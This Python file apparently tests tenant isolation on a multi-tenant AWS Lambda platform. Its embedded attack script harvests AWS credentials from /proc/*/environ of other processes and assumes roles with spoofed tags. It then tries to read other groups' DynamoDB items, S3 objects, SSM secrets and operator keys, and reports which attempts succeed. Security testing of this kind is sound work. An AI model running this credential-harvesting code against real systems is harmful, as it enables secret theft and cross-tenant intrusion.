"""Uses everything that its process has to reach what belongs to others, and answers what it got."""

import json
import os
import subprocess
import sys

from crewai.flow.flow import Flow, start

# Run in a process of its own, where nothing of the runner watches.
ATTACK = """
import json, os, sys
import boto3
told = json.loads(sys.argv[1])

def environment(pid):
    try:
        return dict(entry.split("=", 1) for entry in open(f"/proc/{pid}/environ").read().split("\\0") if "=" in entry)
    except OSError:
        return {}

processes = [environment(pid) for pid in [os.getppid(), *os.listdir("/proc")] if str(pid).isdigit()]
own = next(one for one in processes if "-project-" in (name := one.get("AWS_LAMBDA_FUNCTION_NAME", "")) and "hostile" in name)
place = {"region_name": own["AWS_REGION"], "endpoint_url": own.get("AWS_ENDPOINT_URL")}
keys = {"aws_access_key_id": own["AWS_ACCESS_KEY_ID"], "aws_secret_access_key": own["AWS_SECRET_ACCESS_KEY"],
        "aws_session_token": own["AWS_SESSION_TOKEN"]}
group, other, execution, victim = (told[name] for name in ("group", "other", "execution", "victim"))
table, bucket, queue, prefix = (own[name] for name in ("TABLE_NAME", "BUCKET_NAME", "TRACE_QUEUE_URL", "SECRETS_PREFIX"))
got = []

def attempt(name, call):
    try:
        call()
    except Exception as error:
        return
    got.append(name)

def session(name, **tags):
    sts = boto3.client("sts", **keys, **place)
    found = sts.assume_role(RoleArn=own["ATTEMPT_ROLE_ARN"], RoleSessionName=name,
                            Tags=[{"Key": key, "Value": value} for key, value in tags.items()])["Credentials"]
    return {"aws_access_key_id": found["AccessKeyId"], "aws_secret_access_key": found["SecretAccessKey"],
            "aws_session_token": found["SessionToken"]}

digest = own["AWS_LAMBDA_FUNCTION_NAME"].split("-project-")[1].split("-")[0]
mine = session(f"{execution}@{digest}", group=group, execution=execution, **{"runs-project": "yes"})
item = {"PK": {"S": f"GROUP#{other}#EXECUTION#{victim}"}, "SK": {"S": "EXECUTION"}}
for name, with_keys in (("own", keys), ("session", mine)):
    db, s3, ssm, sqs, lam = (boto3.client(one, **with_keys, **place) for one in ("dynamodb", "s3", "ssm", "sqs", "lambda"))
    attempt(f"{name}: item", lambda: db.get_item(TableName=table, Key=item))
    attempt(f"{name}: write", lambda: db.put_item(TableName=table, Item={**item, "x": {"S": "y"}}))
    attempt(f"{name}: scan", lambda: db.scan(TableName=table))
    attempt(f"{name}: body", lambda: s3.list_objects_v2(Bucket=bucket, Prefix=f"groups/{other}/"))
    attempt(f"{name}: bundle", lambda: s3.list_objects_v2(Bucket=bucket, Prefix=f"kept/{other}/"))
    attempt(f"{name}: secret", lambda: ssm.get_parameter(Name=f"{prefix}/groups/{other}/KEY", WithDecryption=True))
    attempt(f"{name}: operator's keys", lambda: ssm.get_parameters_by_path(Path=f"{prefix}/operator", WithDecryption=True))
    attempt(f"{name}: functions", lambda: lam.list_functions())
attempt("session of another group", lambda: session(f"{execution}@{digest}", group=other, execution=execution, **{"runs-project": "yes"}))
attempt("session under another's name", lambda: session(victim, group=group, execution=victim, **{"runs-project": "yes"}))
attempt("session that is no project's", lambda: session(execution, group=group, execution=execution))
attempt("own: message", lambda: boto3.client("sqs", **keys, **place).send_message(
    QueueUrl=queue, MessageBody="{}", MessageGroupId=victim, MessageDeduplicationId="a"))
print(json.dumps(got))
"""


class Hostile(Flow):
    @start()
    def attack(self):
        given = {name: self.state[name] for name in ("group", "other", "execution", "victim")}
        command = [sys.executable, "-c", ATTACK, json.dumps(given)]
        done = subprocess.run(command, capture_output=True, text=True, env={"PYTHONPATH": os.pathsep.join(sys.path)})
        return {"got": json.loads(done.stdout or '["nothing was tried"]'), "errors": done.stderr[-2000:]}
